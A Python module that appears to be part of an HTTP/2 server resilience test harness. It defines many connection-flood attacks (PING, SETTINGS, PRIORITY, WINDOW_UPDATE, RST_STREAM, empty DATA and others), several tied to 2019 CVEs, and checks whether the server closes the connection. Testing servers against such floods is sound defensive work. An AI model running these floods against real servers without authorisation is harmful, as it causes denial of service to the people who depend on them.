"""Floods of frames that carry nothing."""

import wire as w
from attack import attack


def flood(name, make, number=100000, must_close=True, before=lambda t, c: None, **options):
    @attack(name, must_close=must_close, **options)
    def run(t):
        conn = t.connect()
        before(t, conn)
        t.flood(conn, lambda i: make(t, conn, i), t.many(number), every=250)


def open_streams(t, conn):
    conn.send(*[t.open(conn, 2 * i + 1) for i in range(50)])


flood("PING flood (CVE-2019-9512)", lambda t, c, i: w.ping())
flood("PING ACK flood", lambda t, c, i: w.ping(ack=True), quick=False)
flood("SETTINGS flood (CVE-2019-9515)", lambda t, c, i: w.settings())
flood("SETTINGS ACK flood", lambda t, c, i: w.settings_ack(), quick=False)
flood("SETTINGS with 2,700 values", lambda t, c, i: w.settings(*[(0xF0, 1)] * 2700), number=2000, quick=False)
flood("INITIAL_WINDOW_SIZE flips over open streams", lambda t, c, i: w.settings((w.INITIAL_WINDOW_SIZE, i % 2 * 0x7FFF)), before=open_streams)
flood("PRIORITY flood (CVE-2019-9513)", lambda t, c, i: w.priority(2 * i + 1001), number=1000000)
flood("WINDOW_UPDATE flood, connection", lambda t, c, i: w.window_update(0, 1), number=1000000)
flood("WINDOW_UPDATE flood, stream", lambda t, c, i: w.window_update(1, 1), number=1000000, before=open_streams, quick=False)
flood("unknown frames flood", lambda t, c, i: w.frame(0x42, 0, 0, b""), number=1000000)
flood("RST_STREAM on closed streams", lambda t, c, i: w.rst(1), number=1000000, before=lambda t, c: c.send(t.open(c, 1), w.rst(1)), quick=False)
flood("GOAWAY flood", lambda t, c, i: w.goaway(), quick=False)
flood("empty DATA flood (CVE-2019-9518)", lambda t, c, i: w.data(1, b""), before=open_streams)
flood("padding-only DATA flood", lambda t, c, i: w.data(1, b"", pad=0), before=open_streams, quick=False)


@attack("PING flood, answers unread", must_close=True, close_within=60)
def unread(t):
    # The answers pile up: in the front's memory unless it stops reading.
    conn = t.connect(rcvbuf=4096)
    end, sent = t.deadline(), 0
    import time
    conn.sock.settimeout(0.2)
    try:
        while time.monotonic() < end and sent < t.many(2000000):
            try:
                sent += conn.sock.send(w.ping() * 1000) // 17
            except TimeoutError:
                break
    except OSError:
        t.closed_after = time.monotonic() - t.started
    if t.closed_after is None:
        t.wait_closed([conn], 1)
    t.note = f"{sent} sent" + ("" if t.closed_after else ", then the front read no more")
    t.verdict = True
